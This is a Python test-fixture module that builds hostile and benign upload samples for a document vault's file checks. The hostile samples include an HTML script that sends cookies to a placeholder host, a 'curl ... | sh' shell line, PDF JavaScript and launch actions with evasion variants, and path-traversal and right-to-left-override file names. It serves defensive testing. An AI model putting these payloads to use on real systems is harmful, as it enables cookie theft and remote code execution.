"""The hostile and benign file corpus of the vault, generated in code.

Nothing here is a committed binary: every sample is built when a test asks for it,
so the repository never carries a live test virus (the EICAR string is assembled
from two halves) and big samples are produced lazily, chunk by chunk.

Each :class:`Sample` says how a safe upload must treat it:

- ``code`` is the ``DomainError`` code that must refuse it, and ``refused_by`` names
  the layer: ``"filename"`` (vault/filenames.py), ``"content"`` (vault/sniffing.py:
  type, structure, size) or ``"scanner"`` (clamd, vault/scanning.py);
- a sample without a code must be accepted, stored under ``clean_name`` when given
  (names that are neutralised rather than refused, such as ``../`` paths).

:data:`HOSTILE` and :data:`BENIGN` are the lists the upload tests walk through.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache

# --- Building blocks -----------------------------------------------------------------


def eicar() -> bytes:
    """The 68-byte EICAR anti-virus test file, assembled at run time."""
    first_half = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$"
    second_half = b"EICAR-STANDARD-ANTIVIRUS-" + b"TEST-FILE!$H+H*"
    return first_half + second_half


def zip_bytes(entries: list[tuple[str, bytes]], *, stored_first: bool = False) -> bytes:
    """A ZIP archive; ``stored_first`` stores the first entry uncompressed (ODF)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for index, (name, data) in enumerate(entries):
            method = zipfile.ZIP_STORED if stored_first and index == 0 else zipfile.ZIP_DEFLATED
            archive.writestr(zipfile.ZipInfo(name, date_time=(2025, 1, 1, 0, 0, 0)), data, method)
    return buffer.getvalue()


def eicar_zip() -> bytes:
    return zip_bytes([("lisez-moi.txt", b"Bonjour\n"), ("eicar.com", eicar())])


def odt(*, extra: list[tuple[str, bytes]] = ()) -> bytes:
    """A minimal OpenDocument text, mimetype first and stored, as the standard asks."""
    manifest = (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"'
        b' manifest:version="1.3">\n'
        b' <manifest:file-entry manifest:full-path="/"'
        b' manifest:media-type="application/vnd.oasis.opendocument.text"/>\n'
        b' <manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>\n'
        b"</manifest:manifest>\n"
    )
    content = (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
        b' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.3">'
        b"<office:body><office:text><text:p>Quittance de loyer</text:p></office:text>"
        b"</office:body></office:document-content>\n"
    )
    return zip_bytes(
        [
            ("mimetype", b"application/vnd.oasis.opendocument.text"),
            ("META-INF/manifest.xml", manifest),
            ("content.xml", content),
            *extra,
        ],
        stored_first=True,
    )


def docx(*, extra: list[tuple[str, bytes]] = ()) -> bytes:
    """A minimal Word document (Office Open XML)."""
    content_types = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        b'<Default Extension="rels" ContentType="application/'
        b'vnd.openxmlformats-package.relationships+xml"/>'
        b'<Default Extension="xml" ContentType="application/xml"/>'
        b'<Override PartName="/word/document.xml" ContentType="application/'
        b'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
    )
    rels = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
    )
    document = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        b"<w:body><w:p><w:r><w:t>Attestation</w:t></w:r></w:p></w:body></w:document>"
    )
    return zip_bytes(
        [
            ("[Content_Types].xml", content_types),
            ("_rels/.rels", rels),
            ("word/document.xml", document),
            *extra,
        ]
    )


# --- PDF ---------------------------------------------------------------------------------

PAGE_CONTENT = b"BT /F1 24 Tf 72 720 Td (Avis d'imposition 2025) Tj ET"


def pdf(
    *,
    catalog_extra: bytes = b"",
    page_extra: bytes = b"",
    object_stream: bool = False,
    object_stream_filter: bytes = b"/Filter /FlateDecode",
    trailer_extra: bytes = b"",
) -> bytes:
    """A small, valid PDF with one page of text, built byte by byte.

    ``object_stream=True`` puts every dictionary (catalog, pages, page, font) in a
    compressed object stream with a cross-reference stream (PDF 1.5), the way most
    current producers write them: nothing of them is visible in the raw bytes.
    """
    dictionaries = {
        1: b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> " + page_extra + b">>",
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    }
    content = zlib.compress(PAGE_CONTENT)
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}

    def add(number: int, body: bytes) -> None:
        offsets[number] = len(out)
        out.extend(b"%d 0 obj\n" % number + body + b"\nendobj\n")

    add(
        4,
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(content)
        + content
        + b"\nendstream",
    )
    if not object_stream:
        for number, body in dictionaries.items():
            add(number, body)
        xref_at = len(out)
        out.extend(b"xref\n0 6\n0000000000 65535 f \n")
        for number in range(1, 6):
            out.extend(b"%010d 00000 n \n" % offsets[number])
        out.extend(b"trailer\n<< /Size 6 /Root 1 0 R " + trailer_extra + b">>\n")
        out.extend(b"startxref\n%d\n%%%%EOF\n" % xref_at)
        return bytes(out)

    numbers = sorted(dictionaries)
    header, body, position = [], b"", 0
    for number in numbers:
        header.append(b"%d %d" % (number, position))
        chunk = dictionaries[number] + b"\n"
        body += chunk
        position += len(chunk)
    header_bytes = b" ".join(header) + b"\n"
    data = header_bytes + body
    if b"FlateDecode" in object_stream_filter:
        data = zlib.compress(data)
        if object_stream_filter.count(b"FlateDecode") == 2:
            data = zlib.compress(data)
    add(
        6,
        b"<< /Type /ObjStm /N %d /First %d /Length %d %s >>\nstream\n"
        % (len(numbers), len(header_bytes), len(data), object_stream_filter)
        + data
        + b"\nendstream",
    )
    # Cross-reference stream: type 1 (offset) for 4, 6 and itself, type 2 (in 6) for the rest.
    xref_at = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    for number in range(1, 8):
        if number in dictionaries:
            rows.append(struct.pack(">BIH", 2, 6, numbers.index(number)))
        elif number == 7:
            rows.append(struct.pack(">BIH", 1, xref_at, 0))
        else:
            rows.append(struct.pack(">BIH", 1, offsets[number], 0))
    xref = zlib.compress(b"".join(rows))
    out.extend(
        b"7 0 obj\n<< /Type /XRef /Size 8 /W [1 4 2] /Root 1 0 R /Length %d /Filter /FlateDecode"
        b" %s>>\nstream\n" % (len(xref), trailer_extra) + xref + b"\nendstream\nendobj\n"
    )
    out.extend(b"startxref\n%d\n%%%%EOF\n" % xref_at)
    return bytes(out)


JS_OPEN_ACTION = b"/OpenAction << /S /JavaScript /JS (app.alert\\('coucou'\\)) >> "


def pdf_with_javascript() -> bytes:
    return pdf(catalog_extra=JS_OPEN_ACTION)


def pdf_with_javascript_in_object_stream() -> bytes:
    return pdf(catalog_extra=JS_OPEN_ACTION, object_stream=True)


def pdf_with_escaped_javascript_name() -> bytes:
    return pdf(catalog_extra=b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >> ")


def pdf_with_launch_action() -> bytes:
    return pdf(catalog_extra=b"/OpenAction << /S /Launch /F (cmd.exe) >> ")


def pdf_with_page_additional_actions() -> bytes:
    return pdf(page_extra=b"/AA << /O << /S /URI /URI (https://example.invalid/) >> >> ")


def pdf_with_javascript_names_tree() -> bytes:
    """Document-level JavaScript, run when the file opens (the /Names tree)."""
    return pdf(
        catalog_extra=b"/Names << /JavaScript << /Names [(init) << /S /JavaScript"
        b" /JS (app.alert\\('coucou'\\)) >>] >> >> "
    )


def pdf_with_object_hidden_in_stream_data() -> bytes:
    """A JavaScript action inside the data of a stream, where a cross-reference entry
    can still point a reader to it."""
    hidden = b"\n9 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n"
    data = pdf(catalog_extra=b"/OpenAction 9 0 R ")
    body = b"q Q" + hidden
    return data.replace(b"/Contents 4 0 R", b"/Contents 4 0 R /Dummy 10 0 R").replace(
        b"%PDF-1.7\n",
        b"%PDF-1.7\n"
        + b"10 0 obj\n<< /Length %d >>\nstream\n" % len(body)
        + body
        + b"\nendstream\nendobj\n",
        1,
    )


def pdf_with_attachment() -> bytes:
    import pypdf

    writer = pypdf.PdfWriter(clone_from=io.BytesIO(pdf()))
    writer.add_attachment("facture.exe", b"MZ\x90\x00 not really a program")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_encrypted(*, with_javascript: bool = False) -> bytes:
    """A PDF protected with an owner password (opens without one), by pypdf."""
    import pypdf

    source = pdf(catalog_extra=JS_OPEN_ACTION if with_javascript else b"")
    writer = pypdf.PdfWriter(clone_from=io.BytesIO(source))
    writer.encrypt(user_password="", owner_password="proprietaire", algorithm="AES-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_encrypted_with_object_stream() -> bytes:
    """Encrypted, with an object stream whose content the scan cannot read."""
    data = pdf(object_stream=True, trailer_extra=b"/Encrypt 9 0 R /ID [<00> <00>] ")
    compressed_start = data.index(b"/Type /ObjStm")
    stream_start = data.index(b"stream\n", compressed_start) + len(b"stream\n")
    # What encryption does to a stream: its bytes are no longer a zlib stream.
    scrambled = bytes(b ^ 0x5A for b in data[stream_start : stream_start + 40])
    return data[:stream_start] + scrambled + data[stream_start + 40 :]


@cache
def pdf_from_weasyprint() -> bytes:
    """A PDF from a real producer (fonts, compressed object streams)."""
    import weasyprint

    html = (
        "<h1>Bulletin de salaire</h1><p>Période : janvier 2025. Net à payer : 1 234,56 €.</p>"
        "<p><a href='https://example.invalid/'>Lien</a></p>"
    )
    return weasyprint.HTML(string=html).write_pdf()


def pdf_from_pillow() -> bytes:
    """A scanned-document style PDF (one image page), written by Pillow."""
    buffer = io.BytesIO()
    _image().save(buffer, "PDF", resolution=72)
    return buffer.getvalue()


def pdf_from_pypdf() -> bytes:
    import pypdf

    writer = pypdf.PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_metadata({"/Title": "Relevé"})
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


# --- Images ----------------------------------------------------------------------------------


def _image():
    from PIL import Image, ImageDraw

    image = Image.new("RGB", (64, 48), (240, 240, 230))
    draw = ImageDraw.Draw(image)
    draw.rectangle((8, 8, 56, 40), outline=(20, 40, 120), width=3)
    return image


def image_bytes(format: str, **options) -> bytes:
    buffer = io.BytesIO()
    _image().save(buffer, format, **options)
    return buffer.getvalue()


def heic_header() -> bytes:
    """The first boxes of a HEIC photo (ftyp + start of meta); the sniffer reads no more."""
    ftyp = b"ftyp" + b"heic" + b"\x00\x00\x00\x00" + b"mif1" + b"heic"
    meta = b"meta" + b"\x00" * 24
    return struct.pack(">I", len(ftyp) + 4) + ftyp + struct.pack(">I", len(meta) + 4) + meta


# --- Hostile content ------------------------------------------------------------------------

HTML_PAGE = (
    b"<!DOCTYPE html>\n<html><head><title>Facture</title></head>"
    b"<body><script>document.location='https://example.invalid/?c='+document.cookie"
    b"</script></body></html>\n"
)
SVG_IMAGE = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg">'
    b"<script>alert(document.domain)</script></svg>\n"
)
WINDOWS_PROGRAM = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 48 + b"PE\x00\x00"
)
SHELL_SCRIPT = b"#!/bin/sh\ncurl https://example.invalid/x | sh\n"


def oversized(limit: int, *, head: bytes = b"%PDF-1.7\n", chunk_size: int = 1024 * 1024):
    """Chunks of ``limit + 1`` bytes in all, produced lazily from one reused buffer."""

    def chunks() -> Iterator[bytes]:
        yield head
        remaining = limit + 1 - len(head)
        block = b"\x00" * chunk_size
        while remaining > 0:
            piece = block if remaining >= chunk_size else block[:remaining]
            yield piece
            remaining -= len(piece)

    return chunks


# --- The corpus ------------------------------------------------------------------------------


@dataclass(frozen=True)
class Sample:
    id: str
    filename: str
    #: Returns an iterator of the file's chunks (lazily built).
    chunks: Callable[[], Iterator[bytes]]
    #: Expected refusal code, "" for a sample that must be accepted.
    code: str = ""
    #: "filename", "content" or "scanner": the layer that must refuse it.
    refused_by: str = ""
    #: For accepted samples: the name they must be stored under (when it changes).
    clean_name: str = ""
    #: For accepted samples: the content type they must be stored as.
    content_type: str = ""

    def data(self) -> bytes:
        return b"".join(self.chunks())


def _whole(build: Callable[[], bytes]) -> Callable[[], Iterator[bytes]]:
    return lambda: iter([build()])


def _const(data: bytes) -> Callable[[], Iterator[bytes]]:
    return lambda: iter([data])


def size_limit() -> int:
    from django.conf import settings

    return settings.UPLOAD_MAX_BYTES


HOSTILE: list[Sample] = [
    Sample("eicar-raw", "eicar.txt", _whole(eicar), "vault.infected", "scanner"),
    Sample("eicar-com", "eicar.com", _whole(eicar), "vault.type_mismatch", "content"),
    Sample("eicar-zip", "eicar.zip", _whole(eicar_zip), "vault.type_not_allowed", "content"),
    Sample("eicar-as-pdf", "facture.pdf", _whole(eicar), "vault.type_mismatch", "content"),
    Sample("html-as-pdf", "facture.pdf", _const(HTML_PAGE), "vault.type_mismatch", "content"),
    Sample("svg-as-pdf", "facture.pdf", _const(SVG_IMAGE), "vault.type_mismatch", "content"),
    Sample("html", "page.html", _const(HTML_PAGE), "vault.type_not_allowed", "content"),
    Sample("svg", "logo.svg", _const(SVG_IMAGE), "vault.type_not_allowed", "content"),
    Sample("exe-as-pdf", "facture.pdf", _const(WINDOWS_PROGRAM), "vault.type_mismatch", "content"),
    Sample("exe", "setup.exe", _const(WINDOWS_PROGRAM), "vault.type_not_allowed", "content"),
    Sample("script", "install.sh", _const(SHELL_SCRIPT), "vault.type_not_allowed", "content"),
    Sample(
        "pdf-javascript",
        "avis.pdf",
        _whole(pdf_with_javascript),
        "vault.pdf_active_content",
        "content",
    ),
    Sample(
        "pdf-javascript-object-stream",
        "avis.pdf",
        _whole(pdf_with_javascript_in_object_stream),
        "vault.pdf_active_content",
        "content",
    ),
    Sample(
        "pdf-javascript-escaped-name",
        "avis.pdf",
        _whole(pdf_with_escaped_javascript_name),
        "vault.pdf_active_content",
        "content",
    ),
    Sample(
        "pdf-javascript-names-tree",
        "avis.pdf",
        _whole(pdf_with_javascript_names_tree),
        "vault.pdf_active_content",
        "content",
    ),
    Sample(
        "pdf-launch",
        "avis.pdf",
        _whole(pdf_with_launch_action),
        "vault.pdf_active_content",
        "content",
    ),
    Sample(
        "pdf-object-hidden-in-stream-data",
        "avis.pdf",
        _whole(pdf_with_object_hidden_in_stream_data),
        "vault.pdf_active_content",
        "content",
    ),
    Sample(
        "pdf-additional-actions",
        "avis.pdf",
        _whole(pdf_with_page_additional_actions),
        "vault.pdf_active_content",
        "content",
    ),
    Sample(
        "pdf-attachment",
        "avis.pdf",
        _whole(pdf_with_attachment),
        "vault.pdf_active_content",
        "content",
    ),
    Sample(
        "pdf-encrypted-javascript",
        "avis.pdf",
        _whole(lambda: pdf_encrypted(with_javascript=True)),
        "vault.pdf_active_content",
        "content",
    ),
    Sample(
        "pdf-encrypted-object-stream",
        "avis.pdf",
        _whole(pdf_encrypted_with_object_stream),
        "vault.pdf_encrypted",
        "content",
    ),
    Sample(
        "pdf-double-compressed-object-stream",
        "avis.pdf",
        _whole(
            lambda: pdf(
                catalog_extra=JS_OPEN_ACTION,
                object_stream=True,
                object_stream_filter=b"/Filter [/FlateDecode /FlateDecode]",
            )
        ),
        "vault.pdf_unreadable",
        "content",
    ),
    Sample(
        "docx-with-macros",
        "contrat.docx",
        _whole(lambda: docx(extra=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 macros")])),
        "vault.office_macros",
        "content",
    ),
    Sample(
        "odt-with-macros",
        "lettre.odt",
        _whole(lambda: odt(extra=[("Basic/Standard/Module1.xml", b"<script/>")])),
        "vault.office_macros",
        "content",
    ),
    Sample("docx-as-xlsx", "budget.xlsx", _whole(docx), "vault.type_mismatch", "content"),
    Sample(
        "text-latin1",
        "notes.txt",
        _const("Relevé de compte\n".encode("latin-1")),
        "vault.text_not_utf8",
        "content",
    ),
    Sample(
        "text-nul-after-head",
        "notes.txt",
        lambda: iter([b"Bonjour\n" * 2000, b"\x00binary"]),
        "vault.text_not_utf8",
        "content",
    ),
    Sample("empty", "vide.pdf", lambda: iter([]), "vault.file_empty", "content"),
    Sample(
        "size-limit-plus-one",
        "gros.pdf",
        lambda: oversized(size_limit())(),
        "vault.file_too_large",
        "content",
    ),
    Sample("name-nul", "facture.pdf\x00.exe", _whole(pdf), "vault.filename_nul", "filename"),
    Sample(
        "name-rtl-override", "facture\u202efdp.exe", _whole(pdf), "vault.filename_bidi", "filename"
    ),
    Sample("name-reserved", "CON.pdf", _whole(pdf), "vault.filename_reserved", "filename"),
    Sample("name-only-dots", "../..", _whole(pdf), "vault.filename_empty", "filename"),
]

#: Names that are made safe rather than refused: the file is accepted under the clean name.
NEUTRALISED_NAMES: list[Sample] = [
    Sample("name-parent-dirs", "../../etc/passwd.pdf", _whole(pdf), clean_name="passwd.pdf"),
    Sample(
        "name-windows-path",
        "C:\\Users\\marie\\..\\Documents\\avis.pdf",
        _whole(pdf),
        clean_name="avis.pdf",
    ),
    Sample("name-absolute", "/var/lib/secret.pdf", _whole(pdf), clean_name="secret.pdf"),
    Sample("name-300-characters", "a" * 296 + ".pdf", _whole(pdf), clean_name="a" * 251 + ".pdf"),
    Sample("name-hidden", ".htaccess.txt", _const(b"Bonjour\n"), clean_name="htaccess.txt"),
]

BENIGN: list[Sample] = [
    Sample(
        "pdf-minimal", "avis d'imposition 2025.pdf", _whole(pdf), content_type="application/pdf"
    ),
    Sample(
        "pdf-object-streams",
        "avis.pdf",
        _whole(lambda: pdf(object_stream=True)),
        content_type="application/pdf",
    ),
    Sample(
        "pdf-weasyprint",
        "bulletin.pdf",
        _whole(pdf_from_weasyprint),
        content_type="application/pdf",
    ),
    Sample("pdf-pillow", "scan.pdf", _whole(pdf_from_pillow), content_type="application/pdf"),
    Sample("pdf-pypdf", "releve.PDF", _whole(pdf_from_pypdf), content_type="application/pdf"),
    Sample(
        "pdf-encrypted-owner-password",
        "avis.pdf",
        _whole(pdf_encrypted),
        content_type="application/pdf",
    ),
    Sample(
        "jpeg",
        "carte identité.jpg",
        _whole(lambda: image_bytes("JPEG", quality=85)),
        content_type="image/jpeg",
    ),
    Sample("png", "rib.png", _whole(lambda: image_bytes("PNG")), content_type="image/png"),
    Sample("webp", "photo.webp", _whole(lambda: image_bytes("WEBP")), content_type="image/webp"),
    Sample("tiff", "scan.tiff", _whole(lambda: image_bytes("TIFF")), content_type="image/tiff"),
    Sample("heic", "IMG_0001.HEIC", _whole(heic_header), content_type="image/heic"),
    Sample(
        "text", "notes.txt", _const("Numéro fiscal : 12 34\n".encode()), content_type="text/plain"
    ),
    Sample("text-no-extension", "LISEZMOI", _const(b"Bonjour\n"), content_type="text/plain"),
    Sample(
        "odt", "quittance.odt", _whole(odt), content_type="application/vnd.oasis.opendocument.text"
    ),
    Sample(
        "docx",
        "attestation.docx",
        _whole(docx),
        content_type="application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    *NEUTRALISED_NAMES,
]
